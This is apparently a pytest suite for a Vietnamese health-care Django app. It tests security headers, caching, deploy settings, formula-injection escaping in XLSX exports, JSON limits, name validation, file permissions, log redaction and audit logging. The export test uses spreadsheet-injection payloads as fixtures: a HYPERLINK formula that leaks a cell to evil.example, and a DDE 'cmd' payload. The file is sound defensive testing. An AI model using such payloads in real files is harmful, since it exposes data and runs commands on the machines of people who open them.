"""Issue 8, item 7: defence in depth and deployment. One section per bullet of the issue (the staff
certificate-download audit is tested with the certificates)."""

from __future__ import annotations

import io
import logging
import os
import stat
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from health_f0.core.exceptions import DomainError, ValidationErrors
from health_f0.core.models import AuditLog
from health_f0.core.text import normalize_name
from health_f0.facilities.models import Facility, Membership, Role
from health_f0.patients.models import Patient

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _subprocess_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """A clean environment for a fresh Django process: no test-suite variables leak into it."""
    keep = ("PATH", "HOME", "LANG", "LC_ALL", "PYTHONPATH")
    env = {key: os.environ[key] for key in keep if key in os.environ}
    env.update({"VAR_DIR": str(tmp_path / "var"), "DJANGO_SETTINGS_MODULE": "health_f0.settings"})
    env.update(extra)
    return env


# --- 1. Production settings and security headers -----------------------------------------------------


def test_pages_send_csp_permissions_and_referrer_policies(client: Any, demo: Any, persona: Any) -> None:
    home = client.get("/")
    csp = home["Content-Security-Policy"]
    directives = {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}
    assert directives["default-src"] == ["'self'"]
    assert (
        "'unsafe-inline'" not in directives["script-src"] and "'unsafe-eval'" not in directives["script-src"]
    )
    assert directives["frame-ancestors"] == ["'none'"] and directives["object-src"] == ["'none'"]
    assert "camera=()" in home["Permissions-Policy"] and "geolocation=()" in home["Permissions-Policy"]
    assert home["Referrer-Policy"] == "same-origin"
    desk = _client(persona("thanhdong.nv")).get(reverse("admin:patients_patient_changelist"))
    assert desk.status_code == 200 and "script-src" in desk["Content-Security-Policy"]


def test_personal_pages_and_api_answers_are_never_stored(client: Any, demo: Any, persona: Any) -> None:
    patient_user = persona("bn0000001")
    portal = _client(patient_user)
    desk = _client(persona("thanhdong.nv"))
    from rest_framework.test import APIClient

    from health_f0.api.services import api_token_issue

    raw, _token = api_token_issue(user=patient_user)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    responses = {
        "portal me": portal.get(reverse("www:me")),
        "portal history": portal.get(reverse("www:history")),
        "api me": api.get("/api/v1/me"),
        "api episodes": api.get("/api/v1/episodes"),
        "desk patients": desk.get(reverse("admin:patients_patient_changelist")),
    }
    for name, response in responses.items():
        assert response.status_code == 200, name
        assert "no-store" in response.get("Cache-Control", ""), (name, response.get("Cache-Control"))


def test_production_settings_pass_check_deploy(tmp_path: Path) -> None:
    """The environment docs/operations.md gives for production passes `check --deploy` with no warning."""
    docs = (ROOT / "docs" / "operations.md").read_text(encoding="utf-8")
    production = {
        "DEBUG": "0",
        "SECRET_KEY": "k3Y-" + "x7Qp9vL2mN8rT4wZ6bC1dF5gH0jK3sA" * 2,
        "ALLOWED_HOSTS": "chamsocsuckhoe.example.gov.vn",
        "CSRF_TRUSTED_ORIGINS": "https://chamsocsuckhoe.example.gov.vn",
        "SECURE_PROXY_SSL_HEADER": "1",
        "SECURE_SSL_REDIRECT": "1",
        "SECURE_HSTS_SECONDS": "31536000",
        "SECURE_HSTS_PRELOAD": "1",
    }
    for name in production:
        assert f"`{name}`" in docs, f"{name} is not documented in docs/operations.md"
    env = _subprocess_env(tmp_path, **production)
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    # Secure cookies are the default once DEBUG is off (a plain-HTTP demo must say SECURE_COOKIES=0).
    probe = (
        "import django; django.setup(); from django.conf import settings as s; "
        "print(s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_PROXY_SSL_HEADER)"
    )
    out = subprocess.run(
        [sys.executable, "-c", probe],
        cwd=ROOT,
        env=_subprocess_env(tmp_path, DEBUG="0", SECURE_PROXY_SSL_HEADER="1"),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.stdout.split() == ["True", "True", "('HTTP_X_FORWARDED_PROTO',", "'https')"], out.stderr


# --- 2. Exports: formula injection ------------------------------------------------------------------


def test_xlsx_exports_write_formula_like_text_as_text(demo: Any, persona: Any) -> None:
    from health_f0.his.models import ImportRun
    from health_f0.reports.common.export import safe_row

    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    ttyt = Facility.objects.get(code="TTYT-HD")
    started = datetime(2026, 11, 2, 2, 0, tzinfo=UTC)
    ImportRun.objects.create(
        facility=ttyt,
        source="xml",
        kind="xml_file",
        file_name=evil,
        started_at=started,
        finished_at=started,
        status="done",
        failure="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    response = _client(persona("ttyt.lanhdao")).get(
        "/bao-cao/lien-ket-his/xlsx/", {"from": "02/11/2026", "to": "03/11/2026"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@")]
    assert {c.value for c in dangerous} >= {evil, "@SUM(1+1)*cmd|' /C calc'!A0"}
    for cell in dangerous:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, (cell.coordinate, cell.value)
    # The helper every export uses: numbers stay numbers, "-" alone (an empty figure) stays as is.
    row = safe_row(book.active, ["-5", -5, "+84912345678", "Bình thường"])
    assert row[1] == -5 and row[3] == "Bình thường"
    assert row[0].data_type == "s" and row[2].data_type == "s"


# --- 3. JSON bodies: deeply nested or oversized -> 400 ----------------------------------------------


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("[" * 100_000 + "]" * 100_000, "json_too_deep"),
        ('{"a":' * 200 + "1" + "}" * 200, "json_too_deep"),
        ('{"username": "' + "a" * (3 * 1024 * 1024) + '", "password": "x"}', "json_too_large"),
    ],
    ids=["recursion", "deep", "large"],
)
def test_nested_or_oversized_json_is_a_400(client_api: Any, demo: Any, body: str, code: str) -> None:
    response = client_api.post("/api/v1/auth/token", data=body, content_type="application/json")
    assert response.status_code == 400
    data = response.json()
    assert data["code"] == code and data["detail"] and "Traceback" not in response.content.decode()


# --- 4. Names ----------------------------------------------------------------------------------------


def test_names_are_letters_spaces_hyphens_apostrophes_and_keep_capitals(demo: Any, persona: Any) -> None:
    from health_f0.core import text

    clean_person_name = text.clean_person_name
    assert normalize_name("  nguyễn   thị mai ") == "Nguyễn Thị Mai"
    assert clean_person_name("o'neil") == "O'Neil"
    assert clean_person_name("Trần-Lê văn an") == "Trần-Lê Văn An"
    assert clean_person_name("TRẦN-LÊ thị ngọc") == "Trần-Lê Thị Ngọc"
    assert clean_person_name("d’arc jeanne") == "D'Arc Jeanne"
    for bad, fragment in (
        ("Nguyễn Văn 2", "chữ số"),
        ("Nguyễn\u202eVăn", "ký tự điều khiển"),
        ("Nguyễn\u200bVăn", "ký tự điều khiển"),
        ("Nguyễn\x07Văn", "ký tự điều khiển"),
        ("<script>", "chữ cái"),
        ("A", "2–120"),
    ):
        with pytest.raises(DomainError) as caught:
            clean_person_name(bad)
        assert fragment in caught.value.message and caught.value.field == "full_name", bad

    # The same rule at every door: registration, the desk's booking, a correction of details, the API.
    from health_f0.appointments.models import Service
    from health_f0.appointments.services import booking_patient_create
    from health_f0.patients.services import patient_update_details
    from health_f0.registration.services import RegistrationInput, registration_validate

    reg = RegistrationInput(
        full_name="trần-lê văn an",
        date_of_birth=date(1990, 1, 1),
        sex="male",
        phone="0912000111",
        province_code=31,
        ward_code=10510,
        test_type="rapid",
        positive_date=date.today() - timedelta(days=1),
        care="self_care",
        consent=True,
    )
    assert registration_validate(reg).full_name == "Trần-Lê Văn An"
    reg.full_name = "Trần\u202eVăn An"
    with pytest.raises(ValidationErrors) as refused:
        registration_validate(reg)
    assert "full_name" in refused.value.errors

    service = Service.objects.create(facility=Facility.objects.get(code="PK-NOI1"), code="x", name="Khám")
    with pytest.raises(DomainError) as desk_refused:
        booking_patient_create(
            actor=persona("datlich"),
            service=service,
            full_name="Lê\u2066Văn\u2069 Tám",
            date_of_birth=date(1980, 1, 1),
            sex="male",
            phone="0912000222",
        )
    assert desk_refused.value.field == "full_name"
    made = booking_patient_create(
        actor=persona("datlich"),
        service=service,
        full_name="o'neil mai-anh",
        date_of_birth=date(1980, 1, 1),
        sex="female",
        phone="0912000333",
    )
    assert made.full_name == "O'Neil Mai-Anh"
    with pytest.raises(DomainError):
        patient_update_details(patient=made, actor=persona("datlich"), changes={"full_name": "Mai\x00Anh"})
    # The desk's patient form says it next to the field (and changes nothing).
    hung = Patient.objects.get(account__username="bn0000001")
    form = {
        "full_name": "Nguyễn\u202eVăn Hùng",
        "date_of_birth": hung.date_of_birth.strftime("%d/%m/%Y"),
        "sex": hung.sex,
        "phone": hung.phone,
        "cccd": hung.cccd,
        "bhyt": hung.bhyt,
        "street": hung.street,
    }
    page = _client(persona("thanhdong.nv")).post(
        reverse("admin:patients_patient_change", args=[hung.pk]), form
    )
    assert page.status_code == 200 and "ký tự điều khiển" in page.content.decode()
    hung.refresh_from_db()
    assert hung.full_name == "Nguyễn Văn Hùng"


# --- 5. Files, access log, demo superuser ------------------------------------------------------------


def test_private_files_are_0600_and_search_terms_stay_out_of_logs(tmp_path: Path) -> None:
    script = "\n".join(
        [
            "import django",
            "django.setup()",
            "from django.conf import settings",
            "from django.db import connection",
            "connection.ensure_connection()",
            "from django.core.files.base import ContentFile",
            "from django.core.files.storage import default_storage",
            "default_storage.save('uploads/giay-xac-nhan.pdf', ContentFile(b'%PDF-1.4'))",
            "from health_f0.notifications.gateways import get_gateway",
            "get_gateway('file').send(to='+84912345678', body='Ma OTP 123456', kind='otp', reference='r1')",
            "from huey.contrib.djhuey import HUEY",
            "HUEY.pending_count()",
        ]
    )
    env = _subprocess_env(tmp_path, SMS_FILE_PATH=str(tmp_path / "var" / "sms.jsonl"))
    result = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stderr
    var = tmp_path / "var"
    private = [
        var / "health_f0.sqlite3",
        var / "huey.sqlite3",
        var / "sms.jsonl",
        var / "secret_key",
        var / "media" / "uploads" / "giay-xac-nhan.pdf",
    ]
    for path in private:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == 0o600, f"{path.relative_to(tmp_path)}: {oct(mode)}"
    assert stat.S_IMODE(var.stat().st_mode) == 0o700

    # The access log: the path, never the query string or the referrer (search terms are personal data).
    from gunicorn.config import Config
    from gunicorn.glogging import Logger, SafeAtoms

    namespace: dict[str, Any] = {}
    exec((ROOT / "bench" / "gunicorn_conf.py").read_text(encoding="utf-8"), namespace)  # noqa: S102
    config = Config()
    config.set("access_log_format", namespace["access_log_format"])
    environ = {
        "REQUEST_METHOD": "GET",
        "RAW_URI": "/desk/patients/patient/?q=Nguy%E1%BB%85n+V%C4%83n+H%C3%B9ng&cccd=031090001234",
        "PATH_INFO": "/desk/patients/patient/",
        "QUERY_STRING": "q=Nguy%E1%BB%85n+V%C4%83n+H%C3%B9ng&cccd=031090001234",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "127.0.0.1",
        "HTTP_REFERER": "https://x.example/desk/?q=0912345678",
        "HTTP_USER_AGENT": "test",
    }

    class Response:
        status = "200 OK"
        sent = 1234
        headers: list[tuple[str, str]] = []

    class Request:
        headers: list[tuple[str, str]] = [("REFERER", environ["HTTP_REFERER"])]

    atoms = Logger(config).atoms(Response(), Request(), environ, timedelta(milliseconds=12))
    line = config.access_log_format % SafeAtoms(atoms)
    assert "/desk/patients/patient/" in line
    for secret in ("Nguy", "031090001234", "0912345678", "q="):
        assert secret not in line, line
    run_sh = (ROOT / "scripts" / "run.sh").read_text(encoding="utf-8")
    assert "bench/gunicorn_conf.py" in run_sh


def test_demo_superuser_is_made_once_never_reasserted(demo: Any) -> None:
    admin = get_user_model().objects.get(username="admin")
    assert admin.is_superuser
    admin.is_superuser = False
    admin.is_staff = False
    admin.save(update_fields=["is_superuser", "is_staff"])
    call_command("seed_demo", "--skip-appointments", stdout=io.StringIO())
    admin.refresh_from_db()
    assert not admin.is_superuser and not admin.is_staff
    # run.sh seeds the demo on the first start only.
    out = io.StringIO()
    call_command("seed_demo", "--first-run", stdout=out)
    assert "already" in out.getvalue().lower()
    run_sh = (ROOT / "scripts" / "run.sh").read_text(encoding="utf-8")
    assert "seed_demo --first-run" in run_sh


# --- 6. Audit: deletes and staff list views ----------------------------------------------------------


def test_desk_deletes_and_patient_list_views_are_audited(
    demo: Any, persona: Any, caplog: pytest.LogCaptureFixture
) -> None:
    admin = _client(persona("admin"))
    user = get_user_model().objects.create_user(username="tam.thoi", is_staff=True)
    membership = Membership.objects.create(
        user=user, facility=Facility.objects.get(code="TYT-10510"), role=Role.STATION_STAFF
    )
    patient = Patient.objects.create(
        full_name="Vũ Thị Xoá",
        date_of_birth=date(1970, 1, 1),
        sex="female",
        phone="+84912999888",
        province_code=31,
        ward_code=10510,
        facility=Facility.objects.get(code="TYT-10510"),
    )
    for model, obj in (
        ("facilities_membership", membership),
        ("core_user", user),
        ("patients_patient", patient),
    ):
        pk = obj.pk
        response = admin.post(reverse(f"admin:{model}_delete", args=[pk]), {"post": "yes"})
        assert response.status_code == 302, (model, response.status_code)
        row = AuditLog.objects.get(
            action=AuditLog.Action.DELETE, target_id=str(pk), target_type=obj._meta.label_lower
        )
        assert row.actor.username == "admin" and row.target_repr

    # One VIEW row per page of a patient-data list, with its search and filters; none for other lists.
    nurse = persona("thanhdong.nv")
    desk = _client(nurse)
    before = AuditLog.objects.filter(action=AuditLog.Action.VIEW).count()
    with caplog.at_level(logging.DEBUG):
        response = desk.get(reverse("admin:patients_patient_changelist"), {"q": "Nguyễn Văn Hùng"})
    assert response.status_code == 200
    rows = list(AuditLog.objects.filter(action=AuditLog.Action.VIEW).order_by("id")[before:])
    assert len(rows) == 1
    view = rows[0]
    assert view.actor == nurse and view.target_type == "patients.patient" and view.verb == "view_list"
    assert view.data["search"] == "Nguyễn Văn Hùng" and view.data["count"] >= 1
    assert "Nguyễn Văn Hùng" not in caplog.text
    desk.get(reverse("admin:registration_registration_changelist"), {"status__exact": "submitted"})
    last = AuditLog.objects.filter(action=AuditLog.Action.VIEW).latest("id")
    assert last.target_type == "registration.registration" and last.data["filters"] == {
        "status__exact": "submitted"
    }
    count = AuditLog.objects.count()
    _client(persona("ttyt.lanhdao")).get(reverse("admin:facilities_facility_changelist"))
    assert AuditLog.objects.count() == count
